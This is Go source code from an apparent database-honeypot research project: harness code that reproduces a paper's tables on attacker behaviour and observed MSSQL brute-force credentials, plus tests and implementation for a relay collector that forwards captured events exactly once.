	t.Note = "paper top rows: US 52, China 45, Bulgaria 32, Germany 31, France 30, UK 18, NL 13, Russia 12, Singapore 11, Indonesia 7"
	return report.Artifact{ID: "T10", Title: "Table 10: exploiting IPs by country and honeypot", Body: t.String()}
}

// Table11 reproduces the AS-type x behaviour membership matrix.
func Table11(ds *Dataset) report.Artifact {
	counts := analysis.BehaviorByASType(ds.Recs)
	t := &report.Table{
		Title:  "Behaviour memberships by AS type (medium/high tier)",
		Header: []string{"AS type", "scanning", "scouting", "exploiting"},
	}
	for _, ty := range asdb.Types() {
		c := counts[ty]
		if c == nil {
			continue
		}
		t.AddRow(string(ty), c.Scanning, c.Scouting, c.Exploiting)
	}
	t.Note = "paper: Telecom 1070/138/34, Hosting 1777/1020/264, Security 122/334/0, ICT 2/61/19, IP Service 3/70/0, Unknown 155/325/5"
	return report.Artifact{ID: "T11", Title: "Table 11: AS types vs behaviour", Body: t.String()}
}

// Table12 reproduces the top MSSQL credentials.
func Table12(ds *Dataset) report.Artifact {
	creds := ds.Snap.Creds(evstore.Query{DBMS: core.MSSQL, Tier: evstore.LowTier})
	t := &report.Table{
		Title:  "Top-10 MSSQL credentials",
		Header: []string{"username", "password", "count"},
	}
	for i, c := range creds {
		if i >= 10 {
			break
		}
		pass := c.Pass
		if pass == "" {
			pass = `""`
		}
		t.AddRow(c.User, pass, c.Count)
	}
	t.Note = `paper order: sa/123, admin/123456, hbv7/"", test/1, root/aaaaaa, user/0, administrator/1234, sa1/P@ssw0rd, petroleum/12345, sa2/password`
	return report.Artifact{ID: "T12", Title: "Table 12: top-10 MSSQL usernames and passwords", Body: t.String()}
}

// Table4 renders the deployment itself — a configuration table, but
// reproducing it verifies the deployment builder.
func Table4(ds *Dataset) report.Artifact {
	d := core.DefaultDeployment()
	type key struct {
		level  core.Level
		dbms   string
		config string
		group  string
	}
	counts := map[key]int{}
	for _, in := range d.Instances {
		counts[key{in.Level, in.DBMS, in.Config, in.Group}]++
	}
	keys := make([]key, 0, len(counts))
	for k := range counts {
		keys = append(keys, k)
	}
	sort.Slice(keys, func(i, j int) bool {
		a, b := keys[i], keys[j]
		if a.level != b.level {
			return a.level < b.level
		}
		if a.dbms != b.dbms {
			return a.dbms < b.dbms
		}
		if a.group != b.group {
			return a.group < b.group
		}
		return a.config < b.config
	})
	t := &report.Table{
		Title:  "Deployment (278 honeypots)",
		Header: []string{"interaction", "DBMS", "group", "config", "instances"},
	}
	for _, k := range keys {
		t.AddRow(k.level.String(), k.dbms, k.group, k.config, counts[k])
	}
	return report.Artifact{ID: "T4", Title: "Table 4: honeypot deployment", Body: t.String()}
}
