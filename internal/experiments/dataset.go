// Package experiments implements the reproduction harness: one experiment
// per table and figure in the paper's evaluation, all running against a
// dataset produced by the simulated deployment. DESIGN.md Section 5 is
// the index mapping experiment IDs to paper artefacts.
package experiments

import (
	"context"
	"fmt"
	"sort"
	"sync"

	"decoydb/internal/bus"
	"decoydb/internal/cluster"
	"decoydb/internal/core"
	"decoydb/internal/evstore"
	"decoydb/internal/geoip"
	"decoydb/internal/intel"
	"decoydb/internal/simnet"
)

// Dataset is one simulated 20-day collection, enriched and indexed.
type Dataset struct {
	Seed  int64
	Scale int
	Store *evstore.Store
	// Snap is the immutable post-collection view every experiment reads:
	// one merge across store shards at build time, lock-free thereafter.
	Snap *evstore.Snapshot
	Recs []*evstore.IPRecord
	Pop  *simnet.Population
	// InstApplied is how many institutional-list addresses were actually
	// present in the capture (see evstore.MarkInstitutional); zero for a
	// non-empty list means the intel list does not overlap the capture.
	InstApplied int
	Feeds       map[string]*intel.Feed
	// Bus is the event-transport counter snapshot from the collection
	// run: how the events reached the store, not what they contain.
	Bus bus.Stats

	mu       sync.Mutex
	clusters map[string]*clustered
}

// clustered caches the per-DBMS clustering work shared by T8/T9/A1/A2.
type clustered struct {
	seqs   []cluster.Sequence
	raws   map[string][]string
	result cluster.Result
}

// Build runs the simulation and assembles the dataset.
func Build(ctx context.Context, seed int64, scale int) (*Dataset, error) {
	store := evstore.New(core.ExperimentStart, core.ExperimentDays, geoip.Default())
	res, err := simnet.Run(ctx, simnet.Config{Seed: seed, Scale: scale}, store)
	if err != nil {
		return nil, fmt.Errorf("experiments: simulation: %w", err)
	}
	// Apply the institutional scanner list, as the paper applies the
	// list from Griffioen et al.
	applied := store.MarkInstitutional(res.Population.Institutional)

	snap := store.Snapshot()
	ds := &Dataset{
		Seed:        seed,
		Scale:       scale,
		Store:       store,
		Snap:        snap,
		Recs:        snap.Recs(),
		Pop:         res.Population,
		InstApplied: applied,
		Bus:         res.Bus,
		clusters:    map[string]*clustered{},
	}
	ds.Feeds = buildFeeds(seed, res.Population)
	return ds, nil
}

// buildFeeds snapshots the threat-intel platforms with the coverage the
// paper measured: brute-forcers are widely known (though often unflagged),
// the medium/high exploiters largely are not.
func buildFeeds(seed int64, pop *simnet.Population) map[string]*intel.Feed {
	mk := func(name string, bruteCov, expCov intel.Coverage, s int64) *intel.Feed {
		f := intel.BuildFeed(name, pop.BruteForcers, bruteCov, s)
		f.AddAll(intel.BuildFeed(name, pop.Exploiters, expCov, s+1))
		return f
	}
	return map[string]*intel.Feed{
		intel.GreyNoise: mk(intel.GreyNoise,
			intel.Coverage{ListedFrac: 0.90, MaliciousFrac: 0.23, Tags: []string{"MSSQL bruteforcer", "scanner"}},
			intel.Coverage{ListedFrac: 0.50, MaliciousFrac: 0.23, Tags: []string{"unrelated CVE", "scanner"}},
			seed^0x11),
		intel.AbuseIPDB: mk(intel.AbuseIPDB,
			intel.Coverage{ListedFrac: 0.65, MaliciousFrac: 1, Tags: []string{"port scan", "brute-force"}},
			intel.Coverage{ListedFrac: 0.15, MaliciousFrac: 1, Tags: []string{"port scan", "SQL injection"}},
			seed^0x22),
		intel.TeamCymru: mk(intel.TeamCymru,
			intel.Coverage{ListedFrac: 0.48, MaliciousFrac: 1, Tags: []string{"suspicious"}},
			intel.Coverage{ListedFrac: 0.02, MaliciousFrac: 1, Tags: []string{"suspicious"}},
			seed^0x33),
		intel.FEODO: mk(intel.FEODO,
			intel.Coverage{}, intel.Coverage{}, seed^0x44),
	}
}

// ClusterThreshold is the dendrogram cut height for behaviour grouping.
// TF vectors are L1-normalised, so identical action mixes sit at distance
// zero and near-identical bot runs very close by.
const ClusterThreshold = 0.02

// ClusterFor returns (cached) TF+Ward clustering of the medium/high
// activity on one DBMS.
func (d *Dataset) ClusterFor(dbms string) (cluster.Result, map[string][]string) {
	d.mu.Lock()
	defer d.mu.Unlock()
	if c, ok := d.clusters[dbms]; ok {
		return c.result, c.raws
	}
	var seqs []cluster.Sequence
	raws := map[string][]string{}
	for _, r := range d.Recs {
		var actions []string
		var rawList []string
		// Deterministic order over configs.
		keys := make([]evstore.PerKey, 0, len(r.Per))
		for k := range r.Per {
			if k.Level >= core.Medium && k.DBMS == dbms {
				keys = append(keys, k)
			}
		}
		if len(keys) == 0 {
			continue
		}
		sort.Slice(keys, func(i, j int) bool { return keys[i].Config < keys[j].Config })
		for _, k := range keys {
			act := r.Per[k]
			for _, a := range act.Actions {
				actions = append(actions, a.Name)
				if a.Raw != "" {
					rawList = append(rawList, a.Raw)
				}
			}
			// Login attempts are terms in the paper's documents too —
			// brute-force behaviour is invisible without them. Token
			// counts are capped so heavy brute-forcers stay comparable.
			for i := int64(0); i < act.Logins-act.LoginOK && i < 64; i++ {
				actions = append(actions, "LOGIN-FAIL")
			}
			for i := int64(0); i < act.LoginOK && i < 64; i++ {
				actions = append(actions, "LOGIN-OK")
			}
		}
		id := r.Addr.String()
		seqs = append(seqs, cluster.Sequence{ID: id, Actions: actions})
		raws[id] = rawList
	}
	res := cluster.Run(seqs, ClusterThreshold)
	d.clusters[dbms] = &clustered{seqs: seqs, raws: raws, result: res}
	return res, raws
}
