package relay

import (
	"errors"
	"fmt"
	"net"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"decoydb/internal/wal"
)

// These tests cover durable frame ownership: the journaled (seq →
// endpoint address) pins that keep the tier-wide merge exactly-once
// across farm restarts, live endpoint-set reloads (SetEndpoints), and
// the opt-in orphan-release policy.

// flakySpool wraps a real WAL but fails the first failLeft Compact
// calls — the fault SpoolLog exists to inject.
type flakySpool struct {
	*wal.Log
	failLeft int
	compacts int
}

func (s *flakySpool) Compact(seq uint64) (int, error) {
	s.compacts++
	if s.failLeft > 0 {
		s.failLeft--
		return 0, errors.New("injected compact failure")
	}
	return s.Log.Compact(seq)
}

// reserveAddr picks a loopback address that is currently free: bind,
// read the address, close. A collector can later bind the same address
// to play a restarted or late-joining peer.
func reserveAddr(t *testing.T) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr := ln.Addr().String()
	ln.Close()
	return addr
}

// startCollectorAt is startCollector on a caller-chosen address, with a
// few retries in case the just-released port is briefly unavailable.
func startCollectorAt(t *testing.T, coll *Collector, addr string) (stop func()) {
	t.Helper()
	var ln net.Listener
	var err error
	for i := 0; i < 50; i++ {
		if ln, err = net.Listen("tcp", addr); err == nil {
			break
		}
		time.Sleep(10 * time.Millisecond)
	}
	if err != nil {
		t.Fatalf("listen %s: %v", addr, err)
	}
	done := make(chan error, 1)
	go func() { done <- coll.Serve(ln) }()
	waitFor(t, 5*time.Second, func() bool { return coll.Stats().Listeners > 0 }, "collector serving")
	return func() {
		coll.Close()
		if err := <-done; err != nil {
			t.Errorf("serve: %v", err)
		}
	}
}

// TestCompactRetryAfterFailure pins the lastCompact bookkeeping: a
// Compact that fails must NOT advance the floor, so the next ack at the
// same floor retries it — otherwise one bad fsync would silence
// compaction until the process restarted and fully-acked segments would
// pile up forever.
func TestCompactRetryAfterFailure(t *testing.T) {
	w := openSpool(t, filepath.Join(t.TempDir(), "spool"))
	defer w.Close()
	if _, err := w.Append(testEvents(4), nil); err != nil {
		t.Fatal(err)
	}
	fs := &flakySpool{Log: w, failLeft: 1}
	f := &ForwardSink{opts: ForwardOptions{
		Addrs: []string{"127.0.0.1:1"}, Token: "tok", SpoolWAL: fs,
	}.withDefaults()}
	f.nextSeq = 1 // the one journaled frame is fully acked; floor = 1

	f.mu.Lock()
	f.compactSpoolLocked()
	if f.lastCompact != 0 {
		t.Fatalf("lastCompact advanced to %d over a failed Compact", f.lastCompact)
	}
	f.compactSpoolLocked() // same floor: must retry, not be silenced
	f.mu.Unlock()

	if fs.compacts != 2 {
		t.Fatalf("Compact called %d times, want 2 (failure + retry)", fs.compacts)
	}
	if f.lastCompact != 1 {
		t.Fatalf("lastCompact = %d after successful retry, want 1", f.lastCompact)
	}
	if got := w.Mark(); got != 1 {
		t.Fatalf("spool mark = %d, want 1", got)
	}
	if f.Err() == nil {
		t.Fatal("injected compact failure was not surfaced via Err")
	}
}

// TestCompactRetryEndToEnd is the wired version: a live forwarder whose
// spool WAL fails one Compact still converges to mark == LastSeq once a
// later ack retries.
func TestCompactRetryEndToEnd(t *testing.T) {
	sink := &memSink{}
	coll, err := NewCollector(CollectorOptions{Token: "tok"}, sink)
	if err != nil {
		t.Fatal(err)
	}
	addr, stop := startCollector(t, coll)
	defer stop()

	w := openSpool(t, filepath.Join(t.TempDir(), "spool"))
	defer w.Close()
	fs := &flakySpool{Log: w, failLeft: 1}
	fwd, err := NewForwardSink(ForwardOptions{
		Addrs: []string{addr}, Token: "tok", Farm: "flaky",
		SpoolWAL: fs, FrameEvents: 8,
		MinBackoff: time.Millisecond, MaxBackoff: 5 * time.Millisecond,
	})
	if err != nil {
		t.Fatal(err)
	}
	defer fwd.Close()

	if err := fwd.RecordBatch(testEvents(8)); err != nil {
		t.Fatal(err)
	}
	waitFor(t, 5*time.Second, func() bool { return fwd.Stats().EventsAcked == 8 }, "first frame acked")
	if got := w.Mark(); got != 0 {
		t.Fatalf("mark = %d after the failed compact, want 0", got)
	}
	if err := fwd.RecordBatch(testEvents(16)[8:]); err != nil {
		t.Fatal(err)
	}
	waitFor(t, 5*time.Second, func() bool { return w.Mark() == w.LastSeq() && w.LastSeq() == 2 }, "compaction retried")
	if fs.compacts < 2 {
		t.Fatalf("Compact called %d times, want at least 2", fs.compacts)
	}
}

// TestRestartRetransmitsOnlyToOwner is the farm-restart half of the
// exactly-once contract: a restarted durable farm whose spool holds
// frames journaled as pinned to collector B must not replay them to
// collector A — even while B is down — because B may already hold the
// events with only the ack lost. Unowned frames and A's own frames
// flow to A immediately; B's frame waits, then drains when B returns.
func TestRestartRetransmitsOnlyToOwner(t *testing.T) {
	sinkA := &memSink{}
	collA, err := NewCollector(CollectorOptions{Token: "tok"}, sinkA)
	if err != nil {
		t.Fatal(err)
	}
	addrA, stopA := startCollector(t, collA)
	defer stopA()
	addrB := reserveAddr(t) // B is down; its address is journaled as an owner

	// Fabricate the crashed farm's spool: three frames, the first pinned
	// to A, the second pinned to B, the third cut but never written.
	dir := filepath.Join(t.TempDir(), "spool")
	evs := testEvents(24)
	w1 := openSpool(t, dir)
	for i := 0; i < 3; i++ {
		if _, err := w1.Append(evs[i*8:(i+1)*8], nil); err != nil {
			t.Fatal(err)
		}
	}
	if err := w1.AppendOwner(1, addrA); err != nil {
		t.Fatal(err)
	}
	if err := w1.AppendOwner(2, addrB); err != nil {
		t.Fatal(err)
	}
	if err := w1.Close(); err != nil {
		t.Fatal(err)
	}

	// "Restart": a fresh forwarder adopts the spool with B unreachable.
	w2 := openSpool(t, dir)
	defer w2.Close()
	fwd, err := NewForwardSink(ForwardOptions{
		Addrs: []string{addrA, addrB}, Token: "tok", Farm: "restart",
		SpoolWAL:   w2,
		MinBackoff: time.Millisecond, MaxBackoff: 10 * time.Millisecond,
		FailbackInterval: 20 * time.Millisecond,
	})
	if err != nil {
		t.Fatal(err)
	}
	defer fwd.Close()

	// Frames 1 (owned by A) and 3 (unowned) reach A; frame 2 must not.
	waitFor(t, 5*time.Second, func() bool { return sinkA.len() == 16 }, "A-owned and unowned frames delivered")
	for _, e := range sinkA.snapshot() {
		if n := userNum(t, e.User); n >= 8 && n < 16 {
			t.Fatalf("frame pinned to %s was replayed to %s (event %s)", addrB, addrA, e.User)
		}
	}
	st := fwd.Stats()
	if st.SpoolFrames != 1 || st.SpoolEvents != 8 {
		t.Fatalf("spool holds %d frames / %d events, want B's 1/8", st.SpoolFrames, st.SpoolEvents)
	}
	if st.OrphanFrames != 0 {
		t.Fatalf("OrphanFrames = %d; B is in the endpoint set, its frame is pinned, not orphaned", st.OrphanFrames)
	}
	pinnedToB := 0
	for _, ep := range st.Endpoints {
		if ep.Addr == addrB {
			pinnedToB = ep.PinnedFrames
		}
	}
	if pinnedToB != 1 {
		t.Fatalf("PinnedFrames for %s = %d, want 1", addrB, pinnedToB)
	}

	// B comes back on its old address: the pinned frame drains to B and
	// only B, and the ack floor reaches the whole log.
	sinkB := &memSink{}
	collB, err := NewCollector(CollectorOptions{Token: "tok"}, sinkB)
	if err != nil {
		t.Fatal(err)
	}
	stopB := startCollectorAt(t, collB, addrB)
	defer stopB()

	waitFor(t, 10*time.Second, func() bool { return sinkB.len() == 8 }, "B-owned frame delivered to B")
	for _, e := range sinkB.snapshot() {
		if n := userNum(t, e.User); n < 8 || n >= 16 {
			t.Fatalf("B received event %s outside its pinned frame", e.User)
		}
	}
	waitFor(t, 10*time.Second, func() bool { return w2.Mark() == 3 }, "spool fully compacted")
	if got := sinkA.len(); got != 16 {
		t.Fatalf("A ended with %d events, want exactly 16", got)
	}
}

// TestOrphanedFramesWaitForSetEndpoints covers the re-rank half: a
// frame pinned to an address absent from the endpoint set is an orphan
// — reported in Stats, never retransmitted elsewhere — until a live
// SetEndpoints brings the owner back, at which point it drains to the
// owner without a restart.
func TestOrphanedFramesWaitForSetEndpoints(t *testing.T) {
	sinkA := &memSink{}
	collA, err := NewCollector(CollectorOptions{Token: "tok"}, sinkA)
	if err != nil {
		t.Fatal(err)
	}
	addrA, stopA := startCollector(t, collA)
	defer stopA()
	addrB := reserveAddr(t)

	dir := filepath.Join(t.TempDir(), "spool")
	evs := testEvents(16)
	w1 := openSpool(t, dir)
	for i := 0; i < 2; i++ {
		if _, err := w1.Append(evs[i*8:(i+1)*8], nil); err != nil {
			t.Fatal(err)
		}
	}
	if err := w1.AppendOwner(1, addrB); err != nil { // B not in Addrs below
		t.Fatal(err)
	}
	if err := w1.Close(); err != nil {
		t.Fatal(err)
	}

	w2 := openSpool(t, dir)
	defer w2.Close()
	fwd, err := NewForwardSink(ForwardOptions{
		Addrs: []string{addrA}, Token: "tok", Farm: "rerank",
		SpoolWAL:   w2,
		MinBackoff: time.Millisecond, MaxBackoff: 10 * time.Millisecond,
		FailbackInterval: 20 * time.Millisecond,
	})
	if err != nil {
		t.Fatal(err)
	}
	defer fwd.Close()

	waitFor(t, 5*time.Second, func() bool { return sinkA.len() == 8 }, "unowned frame delivered")
	for _, e := range sinkA.snapshot() {
		if n := userNum(t, e.User); n < 8 {
			t.Fatalf("orphaned frame leaked to %s (event %s)", addrA, e.User)
		}
	}
	if st := fwd.Stats(); st.OrphanFrames != 1 || st.Reloads != 0 {
		t.Fatalf("OrphanFrames=%d Reloads=%d, want 1/0", st.OrphanFrames, st.Reloads)
	}

	// Guard rails around the reload call itself.
	if err := fwd.SetEndpoints(nil); err == nil {
		t.Fatal("SetEndpoints(nil) did not error")
	}
	if err := fwd.SetEndpoints([]string{addrA}); err != nil {
		t.Fatalf("unchanged set errored: %v", err)
	}
	if st := fwd.Stats(); st.Reloads != 0 {
		t.Fatalf("unchanged SetEndpoints counted as a reload (Reloads=%d)", st.Reloads)
	}

	// The owner joins the tier live; its orphan drains to it and no one
	// else, and the endpoint metrics carry A's history across the swap.
	sinkB := &memSink{}
	collB, err := NewCollector(CollectorOptions{Token: "tok"}, sinkB)
	if err != nil {
		t.Fatal(err)
	}
	stopB := startCollectorAt(t, collB, addrB)
	defer stopB()
	ackedByA := fwd.Stats().EventsAcked
	if err := fwd.SetEndpoints([]string{addrA, addrB}); err != nil {
		t.Fatal(err)
	}
	waitFor(t, 10*time.Second, func() bool { return sinkB.len() == 8 }, "orphan drained to returned owner")
	st := fwd.Stats()
	if st.Reloads != 1 {
		t.Fatalf("Reloads = %d, want 1", st.Reloads)
	}
	if st.OrphanFrames != 0 {
		t.Fatalf("OrphanFrames = %d after the owner returned, want 0", st.OrphanFrames)
	}
	var survivedA bool
	for _, ep := range st.Endpoints {
		if ep.Addr == addrA && ep.EventsAcked >= ackedByA {
			survivedA = true
		}
	}
	if !survivedA {
		t.Fatalf("endpoint counters for %s did not survive the reload: %+v", addrA, st.Endpoints)
	}
	if got := sinkA.len(); got != 8 {
		t.Fatalf("A ended with %d events, want exactly 8", got)
	}

	if err := fwd.Close(); err != nil {
		t.Fatal(err)
	}
	if err := fwd.SetEndpoints([]string{addrA}); err == nil || !strings.Contains(err.Error(), "closed") {
		t.Fatalf("SetEndpoints on a closed sink: err = %v, want closed error", err)
	}
}

// TestOrphanReleasePolicy covers the opt-in escape hatch: with
// Options.OrphanRelease set, a frame pinned to a departed collector is
// released after the deadline — journaled, counted — and drains to the
// live tier instead of waiting forever.
func TestOrphanReleasePolicy(t *testing.T) {
	sink := &memSink{}
	coll, err := NewCollector(CollectorOptions{Token: "tok"}, sink)
	if err != nil {
		t.Fatal(err)
	}
	addr, stop := startCollector(t, coll)
	defer stop()

	dir := filepath.Join(t.TempDir(), "spool")
	w1 := openSpool(t, dir)
	if _, err := w1.Append(testEvents(8), nil); err != nil {
		t.Fatal(err)
	}
	if err := w1.AppendOwner(1, "127.0.0.1:1"); err != nil { // departed forever
		t.Fatal(err)
	}
	if err := w1.Close(); err != nil {
		t.Fatal(err)
	}

	w2 := openSpool(t, dir)
	defer w2.Close()
	fwd, err := NewForwardSink(ForwardOptions{
		Addrs: []string{addr}, Token: "tok", Farm: "release",
		SpoolWAL:      w2,
		OrphanRelease: 30 * time.Millisecond,
		MinBackoff:    time.Millisecond, MaxBackoff: 10 * time.Millisecond,
	})
	if err != nil {
		t.Fatal(err)
	}
	defer fwd.Close()

	waitFor(t, 5*time.Second, func() bool { return sink.len() == 8 }, "released orphan delivered")
	if st := fwd.Stats(); st.OrphansReleased != 1 {
		t.Fatalf("OrphansReleased = %d, want 1", st.OrphansReleased)
	}
	waitFor(t, 5*time.Second, func() bool { return w2.Mark() == 1 }, "released frame compacted")
}

// userNum extracts the index from a testEvent user name ("user17" →
// 17), which encodes which fabricated frame an event belonged to.
func userNum(t *testing.T, user string) int {
	t.Helper()
	var n int
	if _, err := fmt.Sscanf(user, "user%d", &n); err != nil {
		t.Fatalf("unexpected user %q: %v", user, err)
	}
	return n
}

// BenchmarkForwardReload prices the farm-restart path this file
// guards: NewForwardSink over a spool WAL holding 10k pinned frames
// must replay the batches, re-encode the wire bodies, and re-attach
// every journaled owner before the farm can resume. This is restart
// latency for a durable farm that died under a full spool — CI floors
// it so an accidental O(n²) in the reload (or a pin remap that walks
// the spool per owner record) shows up as a collapsed frames/s, not as
// a mysteriously slow recovery in production.
func BenchmarkForwardReload(b *testing.B) {
	const frames = 10000
	reserve := func() string {
		ln, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			b.Fatal(err)
		}
		addr := ln.Addr().String()
		ln.Close()
		return addr
	}
	// Two dead collectors: every reloaded frame is pinned to one of
	// them, so the reload exercises the owner re-attach path for the
	// whole spool and the write loop cannot drain anything mid-measure.
	deadA, deadB := reserve(), reserve()

	dir := b.TempDir()
	w, err := wal.Open(wal.Options{Dir: dir})
	if err != nil {
		b.Fatal(err)
	}
	defer w.Close()
	evs := testEvents(4)
	for i := 0; i < frames; i++ {
		seq, err := w.Append(evs, nil)
		if err != nil {
			b.Fatal(err)
		}
		owner := deadA
		if i%2 == 1 {
			owner = deadB
		}
		if err := w.AppendOwner(seq, owner); err != nil {
			b.Fatal(err)
		}
	}

	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		fwd, err := NewForwardSink(ForwardOptions{
			Addrs: []string{deadA, deadB}, Token: "bench", Farm: "reload-bench",
			SpoolWAL: w, SpoolFrames: frames + 64,
			MinBackoff: time.Second, MaxBackoff: time.Second,
		})
		if err != nil {
			b.Fatal(err)
		}
		if st := fwd.Stats(); st.SpoolFrames != frames || st.OrphanFrames != 0 {
			b.Fatalf("reloaded %d frames (%d orphans), want %d pinned frames", st.SpoolFrames, st.OrphanFrames, frames)
		}
		b.StopTimer()
		if err := fwd.Close(); err != nil {
			b.Fatal(err)
		}
		b.StartTimer()
	}
	b.ReportMetric(float64(frames)*float64(b.N)/b.Elapsed().Seconds(), "frames/s")
}
