package relay

import (
	"crypto/subtle"
	"errors"
	"fmt"
	"net"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"decoydb/internal/core"
	"decoydb/internal/wire"
)

// CollectorOptions configure a Collector. Token is required.
type CollectorOptions struct {
	// Token is the shared secret every forwarder must present. Compared
	// in constant time; a mismatch closes the connection without a
	// response (the port is Internet-facing — it should look like
	// nothing to a scanner).
	Token string
	// MaxFrame caps one frame on the wire. 0 means DefaultMaxFrame.
	MaxFrame int
	// Limits bound per-frame decode allocations.
	Limits Limits
	// HelloTimeout is how long a fresh connection gets to present a
	// valid HELLO. 0 means DefaultHelloTimeout.
	HelloTimeout time.Duration
	// IdleTimeout drops an authenticated connection that sends no frame
	// for this long — a half-open or dead farm link must not pin its
	// handler goroutine and conns entry forever. The forwarder dials
	// lazily, so an idle farm simply reconnects when it next has events.
	// 0 means DefaultIdleTimeout.
	IdleTimeout time.Duration
	// WriteTimeout bounds each ACK write. 0 means DefaultWriteTimeout.
	WriteTimeout time.Duration
	// Farms seeds the per-farm dedup state, restoring the high-water
	// marks a previous collector process journalled before it died (see
	// DecodeSourceTag). A restored farm's retransmitted batches dedup
	// exactly as if the collector had never restarted.
	Farms map[string]FarmMark
	// Logf, when non-nil, receives operational diagnostics.
	Logf func(format string, args ...any)
}

// FarmMark is a restorable dedup high-water mark for one farm: the
// session epoch it belongs to and the highest sequence ingested within
// it. dbcollect rebuilds these from the WAL batch tags on reopen.
type FarmMark struct {
	Epoch   uint64
	LastSeq uint64
}

// DefaultHelloTimeout is how long an unauthenticated connection may sit
// before being cut.
const DefaultHelloTimeout = 10 * time.Second

// DefaultIdleTimeout is how long an authenticated connection may stay
// silent before being cut.
const DefaultIdleTimeout = 5 * time.Minute

func (o CollectorOptions) withDefaults() CollectorOptions {
	if o.MaxFrame <= 0 {
		o.MaxFrame = DefaultMaxFrame
	}
	o.Limits = o.Limits.WithDefaults()
	if o.HelloTimeout <= 0 {
		o.HelloTimeout = DefaultHelloTimeout
	}
	if o.IdleTimeout <= 0 {
		o.IdleTimeout = DefaultIdleTimeout
	}
	if o.WriteTimeout <= 0 {
		o.WriteTimeout = DefaultWriteTimeout
	}
	return o
}

// farmState is the per-farm dedup and accounting record. Ingest and ack
// for one farm serialise on its mutex, so a farm that reconnects while
// its old connection drains cannot interleave batches. The dedup key is
// (epoch, sequence): a forwarder process restart announces a fresh
// epoch in HELLO, which resets the high-water mark — without it the new
// process's sequences (restarting at 1) would all be classified as
// duplicates of the old session's and silently dropped.
type farmState struct {
	mu        sync.Mutex
	epoch     uint64 // session epoch the dedup state belongs to
	last      uint64 // highest ingested sequence within epoch
	durable   bool   // farm announced a WAL-backed sequence space
	frames    uint64
	events    uint64
	dupFrames uint64
	dupEvents uint64
}

// collSink pairs one local sink with its batch and provenance
// capabilities.
type collSink struct {
	sink   core.Sink
	batch  core.BatchSink
	tagged core.TaggedBatchSink
}

// Collector terminates relay connections on the analysis host:
// authenticate (shared token), decode frames, dedup on (farm,
// sequence), fan each decoded batch into the local sinks (evstore,
// StatsSink, ...), and acknowledge. It is the receiving half of the
// at-least-once contract: the forwarder retransmits until acked, the
// collector ingests each (farm, sequence) exactly once.
//
// Serve may be called repeatedly (and concurrently, for multiple
// listeners); Close stops all current listeners and connections but
// keeps the dedup state, so a collector can be bounced — or re-armed on
// a fresh listener after a crash drill — without double counting.
type Collector struct {
	opts  CollectorOptions
	sinks []collSink

	mu     sync.Mutex
	lns    map[net.Listener]struct{}
	conns  map[net.Conn]struct{}
	farms  map[string]*farmState
	closed bool // true while Close is tearing down; reset by Serve

	wg sync.WaitGroup

	conns_    atomic.Uint64
	auths     atomic.Uint64 // authenticated connections
	authFails atomic.Uint64
	badFrames atomic.Uint64
	frames    atomic.Uint64
	events    atomic.Uint64
	dupFrames atomic.Uint64
	dupEvents atomic.Uint64
	wireBytes atomic.Uint64
	rawBytes  atomic.Uint64
	sinkErrs  atomic.Uint64

	errMu    sync.Mutex
	firstErr error
}

// NewCollector creates a collector fanning decoded batches into sinks.
// At least one sink is required.
func NewCollector(opts CollectorOptions, sinks ...core.Sink) (*Collector, error) {
	if opts.Token == "" {
		return nil, fmt.Errorf("relay: collector: empty token")
	}
	if len(opts.Token) > MaxName {
		return nil, fmt.Errorf("relay: collector: token is %d bytes, limit %d", len(opts.Token), MaxName)
	}
	if len(sinks) == 0 {
		return nil, fmt.Errorf("relay: collector: no sinks registered")
	}
	c := &Collector{
		opts:  opts.withDefaults(),
		lns:   make(map[net.Listener]struct{}),
		conns: make(map[net.Conn]struct{}),
		farms: make(map[string]*farmState),
	}
	for _, s := range sinks {
		cs := collSink{sink: s}
		if bs, ok := s.(core.BatchSink); ok {
			cs.batch = bs
		}
		if ts, ok := s.(core.TaggedBatchSink); ok {
			cs.tagged = ts
		}
		c.sinks = append(c.sinks, cs)
	}
	for name, m := range c.opts.Farms {
		c.farms[name] = &farmState{epoch: m.Epoch, last: m.LastSeq, durable: true}
	}
	return c, nil
}

// Serve accepts relay connections on ln until the listener is closed
// (by the caller or by Close). It returns nil on a clean close.
func (c *Collector) Serve(ln net.Listener) error {
	c.mu.Lock()
	c.closed = false
	c.lns[ln] = struct{}{}
	c.mu.Unlock()
	defer func() {
		c.mu.Lock()
		delete(c.lns, ln)
		c.mu.Unlock()
	}()
	for {
		conn, err := ln.Accept()
		if err != nil {
			if errors.Is(err, net.ErrClosed) {
				return nil
			}
			return fmt.Errorf("relay: accept: %w", err)
		}
		c.mu.Lock()
		if c.closed {
			c.mu.Unlock()
			conn.Close()
			continue
		}
		c.conns[conn] = struct{}{}
		c.mu.Unlock()
		c.conns_.Add(1)
		c.wg.Add(1)
		go func() {
			defer c.wg.Done()
			c.handle(conn)
			c.mu.Lock()
			delete(c.conns, conn)
			c.mu.Unlock()
		}()
	}
}

// ListenAndServe listens on addr and serves until the collector is
// closed. It returns the bound address on a channel-free path by
// binding synchronously before serving.
func (c *Collector) ListenAndServe(addr string) error {
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return fmt.Errorf("relay: listen %s: %w", addr, err)
	}
	return c.Serve(ln)
}

// Close stops serving: every registered listener and live connection is
// closed and in-flight handlers are awaited. Dedup and stats state is
// retained — Serve may be called again and reconnecting farms resume
// where their acks left off. Close only affects listeners Serve has
// already registered: when re-arming, wait for Stats().Listeners to
// reflect the new Serve before a subsequent Close (a Close racing a
// just-started Serve leaves that listener running).
func (c *Collector) Close() error {
	c.mu.Lock()
	c.closed = true
	for ln := range c.lns {
		ln.Close()
	}
	for conn := range c.conns {
		conn.Close()
	}
	c.mu.Unlock()
	c.wg.Wait()
	return c.Err()
}

// Err returns the first sink delivery error observed so far.
func (c *Collector) Err() error {
	c.errMu.Lock()
	defer c.errMu.Unlock()
	return c.firstErr
}

func (c *Collector) noteErr(err error) {
	c.errMu.Lock()
	if c.firstErr == nil {
		c.firstErr = err
	}
	c.errMu.Unlock()
}

func (c *Collector) logf(format string, args ...any) {
	if c.opts.Logf != nil {
		c.opts.Logf(format, args...)
	}
}

func (c *Collector) farm(name string) *farmState {
	c.mu.Lock()
	defer c.mu.Unlock()
	fs, ok := c.farms[name]
